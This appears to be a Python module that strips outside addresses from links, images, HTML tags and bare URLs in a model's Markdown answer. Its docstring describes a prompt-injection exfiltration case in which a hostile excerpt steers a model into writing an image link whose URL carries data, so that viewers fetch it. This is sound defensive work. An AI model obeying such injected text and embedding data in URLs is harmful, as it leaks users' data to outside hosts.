"""Links and images to outside addresses in a model's answer: the text stays, the address goes.

A model that read a hostile excerpt can be steered into writing `![x](https://host/?d=…)`
with data from the excerpts in the URL. A Markdown viewer fetches an image as soon as it
shows it, and an MCP client or chat app may fetch or preview a link, so the answer
itself would send the data out. Every interface shows the answer, so this runs once,
where the answer is finished, before any of them sees it:

- inline and reference-style links and images (`[t](url)`, `![alt](url)`, `[t][ref]` with
  `[ref]: url`) keep their text (an image its alt text), and lose the address;
- HTML tags with an address (`<img src=…>`, `<a href=…>`) are dropped, text between them kept;
- autolinks (`<https://…>`) and bare URLs, which viewers turn into links, are put in a
  code span: still readable, never fetched, linked or previewed.

An address is outside when it names a scheme (`https:`, `data:`, `javascript:`, `file:`)
or a host (`//host/…`); a link to a repository path (`[x](src/a.py)`) or an anchor stays.
Code spans and fenced code blocks are left exactly as written: Markdown never fetches
from code, and a quoted line of code must read as it is in the file.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

_OUTSIDE = re.compile(r"^\s*<?\s*(?:[A-Za-z][A-Za-z0-9+.-]*:|//|\\\\)")
# Link text: anything but brackets, or one level of nested brackets (`[![img](u)](v)`).
_TEXT = r"(?P<text>(?:[^\[\]\n]|\[[^\[\]\n]*\])*)"
# A destination: `<…>`, or a run without spaces that may hold balanced parentheses.
_DESTINATION = r"(?P<url><[^<>\n]*>|(?:[^\s()]|\([^\s()]*\))+)"
_TITLE = r"""(?:\s+(?:"[^"\n]*"|'[^'\n]*'|\([^()\n]*\)))?"""
_INLINE = re.compile(r"(?P<bang>!?)\[" + _TEXT + r"\]\(\s*" + _DESTINATION + _TITLE + r"\s*\)")
_DEFINITION = re.compile(
    r"^ {0,3}\[(?P<label>[^\[\]\n]+)\]:[ \t]*" + _DESTINATION + _TITLE + r"[ \t]*$\n?", re.M
)
_REFERENCE = re.compile(r"(?P<bang>!?)\[" + _TEXT + r"\](?:\[(?P<label>[^\[\]\n]*)\])?")
_AUTOLINK = re.compile(r"<(?P<url>[A-Za-z][A-Za-z0-9+.-]{1,31}:[^\s<>`]*)>")
# A tag with an attribute whose value is an address: `<img src="https://…">`, `<a href=//h>`.
_TAG_WITH_ADDRESS = re.compile(
    r"<[A-Za-z][\w-]*\s[^<>]*?=\s*[\"']?\s*(?:[A-Za-z][\w+.-]*:|//|\\\\)[^<>]*>"
)
_CLOSING_ANCHOR = re.compile(r"</a\s*>", re.I)
# As viewers linkify them: trailing punctuation ends the sentence, not the URL.
_BARE_URL = re.compile(
    r"(?<![\w`])(?:[A-Za-z][A-Za-z0-9+.-]*://|www\.)[^\s<>`\"')\]]*[^\s<>`\"')\].,;:!?*_~]"
)
# Fenced blocks (``` or ~~~, to the matching fence or the end) and code spans.
_CODE = re.compile(
    r"^ {0,3}(?P<fence>`{3,}|~{3,})[^\n]*\n.*?(?:^ {0,3}(?P=fence)[`~]*[ \t]*$|\Z)"
    r"|(?P<ticks>`+)[^`].*?(?<!`)(?P=ticks)(?!`)",
    re.M | re.S,
)


@dataclass(frozen=True, slots=True)
class DefangedText:
    text: str
    removed: int  # links, images and tags whose address was dropped
    fenced: int  # bare URLs and autolinks put in a code span


def defang_links(text: str) -> DefangedText:
    """`text` with every link, image, tag and URL to an outside address made inert."""
    pieces: list[str] = []
    removed = fenced = 0
    cursor = 0
    for code in _CODE.finditer(text):
        prose = _Prose(text[cursor : code.start()])
        pieces.append(prose.defanged())
        pieces.append(code.group())
        removed, fenced = removed + prose.removed, fenced + prose.fenced
        cursor = code.end()
    prose = _Prose(text[cursor:])
    pieces.append(prose.defanged())
    return DefangedText("".join(pieces), removed + prose.removed, fenced + prose.fenced)


def links_note(defanged: DefangedText) -> str | None:
    """One line saying what `defang_links` changed; None when it changed nothing."""
    parts = []
    if defanged.removed:
        parts.append(f"{_count(defanged.removed, 'outside address')} dropped (the text is kept)")
    if defanged.fenced:
        parts.append(f"{_count(defanged.fenced, 'URL')} put in code")
    if not parts:
        return None
    return f"Links check: {' and '.join(parts)}, so that no viewer fetches them with data."


def _count(number: int, thing: str) -> str:
    return f"{number} {thing}" + ("" if number == 1 else "es" if thing.endswith("s") else "s")


class _Prose:
    """One stretch of Markdown outside code, defanged on demand, counting what changed."""

    def __init__(self, text: str) -> None:
        self.text = text
        self.removed = 0
        self.fenced = 0

    def defanged(self) -> str:
        text = self.text
        if not text:
            return text
        dropped: set[str] = set()

        def definition(match: re.Match[str]) -> str:
            if not _OUTSIDE.match(match.group("url")):
                return match.group()
            dropped.add(_label(match.group("label")))
            self.removed += 1
            return ""

        text = _DEFINITION.sub(definition, text)
        text = _INLINE.sub(self._inline, text)

        def reference(match: re.Match[str]) -> str:
            label = match.group("label")
            key = _label(label if label else match.group("text"))
            return match.group("text") if key in dropped else match.group()

        if dropped:
            text = _REFERENCE.sub(reference, text)
        text = _AUTOLINK.sub(self._fence, text)
        text, count = _TAG_WITH_ADDRESS.subn("", text)
        if count:
            self.removed += count
            text = _CLOSING_ANCHOR.sub("", text)
        return _BARE_URL.sub(self._fence, text)

    def _inline(self, match: re.Match[str]) -> str:
        # The text may hold a link or image itself (`[![alt](img)](link)`): defang it too.
        inner = _INLINE.sub(self._inline, match.group("text"))
        if _OUTSIDE.match(match.group("url")):
            self.removed += 1
            return inner
        whole, offset = match.group(), match.start()
        return whole[: match.start("text") - offset] + inner + whole[match.end("text") - offset :]

    def _fence(self, match: re.Match[str]) -> str:
        self.fenced += 1
        url = match.group("url") if "url" in match.groupdict() else match.group()
        return f"`{url}`"


def _label(label: str) -> str:
    """A reference label as Markdown matches it: case and runs of spaces do not count."""
    return " ".join(label.split()).casefold()
